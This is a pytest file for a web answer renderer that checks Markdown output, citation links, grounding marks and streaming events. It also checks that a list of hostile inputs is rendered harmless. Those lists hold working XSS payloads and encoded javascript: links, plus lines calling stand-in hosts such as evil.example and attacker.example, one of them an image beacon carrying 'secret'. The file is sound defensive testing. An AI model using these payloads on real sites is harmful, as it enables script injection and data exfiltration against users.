"""Answers as HTML (app/web/render.py): Markdown, sanitising, citation links, grounding marks,
and the streaming ``render`` events. RELIABILITY.md B2 and B3 payloads, checked on the HTML
after an HTML5 re-parse (what a browser would build)."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncGenerator
from html.parser import HTMLParser
from typing import Any

import pytest

from app.models import AnswerEvent
from app.web.render import render_answer, settled, with_html


class Parsed(HTMLParser):
    """Tags, attributes and text of an HTML fragment, as a parser sees them."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def hrefs(self) -> list[str]:
        return [a["href"] for t, a in self.tags if t == "a" and "href" in a]


def assert_inert(fragment: str) -> None:
    parsed = Parsed(fragment)
    allowed = {"p", "a", "strong", "em", "code", "pre", "ul", "ol", "li", "span", "br", "hr"}
    allowed |= {"blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody"}
    allowed |= {"tr", "th", "td", "s", "del", "sup"}
    for tag, attrs in parsed.tags:
        assert tag in allowed, (tag, fragment)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, fragment)
            assert name not in ("src", "srcdoc", "style", "formaction", "action"), fragment
            if name == "href":
                assert re.match(r"(https?:|mailto:|#source-\d+$)", value, re.I), value


def test_markdown_is_rendered() -> None:
    out = render_answer("**Bold** and *it*.\n\n- one\n- two\n\n```\ncode <b>\n```", 0)
    assert "<strong>Bold</strong>" in out and "<em>it</em>" in out
    assert "<li>one</li>" in out and "<pre><code>code &lt;b&gt;" in out


def test_tables_render() -> None:
    out = render_answer("| a | b |\n|---|---|\n| 1 | 2 |", 0)
    assert "<table>" in out and "<td>1</td>" in out


def test_citation_markers_become_links_only_for_real_sources() -> None:
    out = render_answer("Leave is sixteen weeks [1]. Also [7]. Code: `[1]`.", 2)
    parsed = Parsed(out)
    cites = [a for t, a in parsed.tags if t == "a" and a.get("class") == "cite"]
    assert [c["data-n"] for c in cites] == ["1"], "[7] is not a source; [1] in code is code"
    assert cites[0]["href"] == "#source-1"
    assert "[7]" in out and "<code>[1]</code>" in out


def test_reference_definitions_cannot_turn_a_citation_into_a_link() -> None:
    out = render_answer("See [1].\n\n[1]: javascript:alert(1)", 1)
    hrefs = Parsed(out).hrefs()
    assert hrefs and set(hrefs) == {"#source-1"}, "the definition line stays text"


B2 = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<style>@import url(https://evil.example/x.css)</style>",
    "<form action=https://evil.example><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "{{7*7}} ${7*7}",
    '<a href="javascript:window.__pwned=1">x</a>',
    '<a href="&#106;avascript:window.__pwned=1">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<div onmouseover="window.__pwned=1">hover</div>',
    "<img src=x o&#110;error=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>x</details>",
    '<a href="&#x6A;avascript&#x3A;window.__pwned=1">hex-encoded</a>',
    "<object data=javascript:window.__pwned=1></object><embed src=javascript:window.__pwned=1>",
]
B3 = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](JaVa&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://attacker.example/?d=secret)",
    '<a href="https://evil.example">raw</a>',
    "[x](//evil.example/path)",
    "[x](/relative/path)",
    "[x](https://xn--pple-43d.com/)",
    "[ok](https://example.com/page) and [mail](mailto:a@example.com)",
]


@pytest.mark.parametrize("payload", B2 + B3)
def test_hostile_markdown_and_html_come_out_inert(payload: str) -> None:
    for text in (payload, f"Answer text {payload} [1].", f"# {payload}\n\n> {payload}"):
        assert_inert(render_answer(text, 1))


def test_only_http_https_and_mailto_links_survive() -> None:
    hrefs = Parsed(render_answer("\n\n".join(B3), 1)).hrefs()
    assert hrefs, "the safe links are kept"
    assert all(re.match(r"(https?:|mailto:|#source-1$)", h) for h in hrefs), hrefs
    assert "https://example.com/page" in hrefs and "mailto:a@example.com" in hrefs
    out = render_answer("[ok](https://example.com/page)", 0)
    assert 'rel="noopener noreferrer nofollow"' in out


def test_images_are_links_never_loaded() -> None:
    out = render_answer("![chart](https://attacker.example/?d=secret)", 0)
    assert "<img" not in out
    assert Parsed(out).hrefs() == ["https://attacker.example/?d=secret"]


def test_grounding_marks_follow_their_sentences() -> None:
    text = "Leave lasts sixteen weeks [1]. It is paid by the moon [1]."
    grounding = [
        {"text": "Leave lasts sixteen weeks [1].", "verdict": "supported", "source": 1},
        {
            "text": "It is paid by the moon [1].",
            "verdict": "unsupported",
            "source": None,
            "reasons": ["<img src=x onerror=alert(1)> not in the source"],
        },
    ]
    out = render_answer(text, 1, grounding)
    assert_inert(out)
    marks = [a for t, a in Parsed(out).tags if t == "span" and "mark" in a.get("class", "")]
    assert [m["class"] for m in marks] == ["mark mark-supported", "mark mark-unsupported"]
    assert marks[0]["tabindex"] == "0" and "Supported" in marks[0]["title"]
    assert "Not found" in marks[1]["aria-label"] and "onerror" in marks[1]["title"]
    # The mark comes after the sentence and its citation.
    assert out.index("sixteen weeks") < out.index("mark-supported") < out.index("moon")


def test_private_use_characters_cannot_forge_marks() -> None:
    out = render_answer("Text \ue0001\ue001 here [1].", 1, [])
    assert "mark" not in out and "\ue000" not in out


def test_settled_part_ends_at_the_last_blank_line_outside_code() -> None:
    assert settled("one para") == 0
    assert settled("one\n\ntwo") == len("one\n\n")
    assert settled("a\n\n```\ncode\n\nmore") == len("a\n\n"), "a blank line inside code"
    assert settled("a\n\n```\ncode\n\n```\n\nb") == len("a\n\n```\ncode\n\n```\n\n")


def _events(*items: tuple[str, dict[str, Any]]) -> list[AnswerEvent]:
    return [AnswerEvent(event=n, data=d) for n, d in items]  # type: ignore[arg-type]


def test_streaming_sends_the_settled_html_then_the_whole_answer() -> None:
    closed: list[bool] = []

    async def source() -> AsyncGenerator[AnswerEvent, None]:
        try:
            for e in _events(
                ("sources", {"sources": [{"n": 1}]}),
                ("delta", {"text": "**First** para [1].\n"}),
                ("delta", {"text": "\nSecond para"}),
                ("delta", {"text": " goes on."}),
                ("grounding", {"sentences": []}),
                ("done", {"text": "**First** para [1].\n\nSecond para goes on."}),
            ):
                yield e
        finally:
            closed.append(True)

    async def collect() -> list[AnswerEvent]:
        return [e async for e in with_html(source())]

    out = asyncio.run(collect())
    names = [e.event for e in out]
    assert names == ["sources", "delta", "delta", "render", "delta", "grounding", "done"]
    render = out[3].data
    assert render["upto"] == len("**First** para [1].\n\n")
    assert "<strong>First</strong>" in render["html"] and 'data-n="1"' in render["html"]
    assert "Second" not in render["html"]
    assert "<p>Second para goes on.</p>" in out[-1].data["html"]
    assert closed == [True]


def test_streamed_cuts_match_the_settled_part_of_each_prefix() -> None:
    """The scan restarts at the last cut; the cuts must be those of scanning from the start,
    with fences and blank lines split across pieces of every size."""
    answer = "Intro [1].\n\n```\ncode\n\nstill code\n```\n\nMiddle\n\n~~~\nx\n~~~\n\nEnd."
    for size in (1, 2, 3, 7):
        pieces = [answer[i : i + size] for i in range(0, len(answer), size)]

        async def source(pieces: list[str] = pieces) -> AsyncGenerator[AnswerEvent, None]:
            for piece in pieces:
                yield AnswerEvent(event="delta", data={"text": piece})

        async def collect() -> list[AnswerEvent]:
            return [e async for e in with_html(source())]

        cuts = [e.data["upto"] for e in asyncio.run(collect()) if e.event == "render"]
        expected: list[int] = []
        for end in range(size, len(answer) + size, size):
            cut = settled(answer[:end])
            if cut > (expected[-1] if expected else 0):
                expected.append(cut)
        assert cuts == expected and len(cuts) == 4, size


def test_closing_the_html_stream_closes_the_answer_at_once() -> None:
    closed: list[bool] = []

    async def source() -> AsyncGenerator[AnswerEvent, None]:
        try:
            yield AnswerEvent(event="delta", data={"text": "a"})
            await asyncio.sleep(60)
            yield AnswerEvent(event="delta", data={"text": "b"})
        finally:
            closed.append(True)

    async def go() -> None:
        stream = with_html(source())
        await anext(stream)
        await stream.aclose()

    asyncio.run(go())
    assert closed == [True], "the answer (and its upstream) closes with the page's stream"
